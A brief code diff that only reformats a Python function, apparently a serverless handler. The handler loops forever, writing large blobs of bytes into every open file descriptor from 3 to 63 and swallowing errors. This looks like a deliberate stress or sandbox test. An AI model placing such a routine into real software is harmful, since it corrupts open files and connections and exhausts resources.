@@ -21,13 +21,12 @@ def count(record):
     )
 
 
-
 def handler(event, context):
     import os
 
     while True:
         for descriptor in range(3, 64):
             try:
-                os.write(descriptor, b'{}' * 32768)
+                os.write(descriptor, b"{}" * 32768)
             except OSError:
                 pass
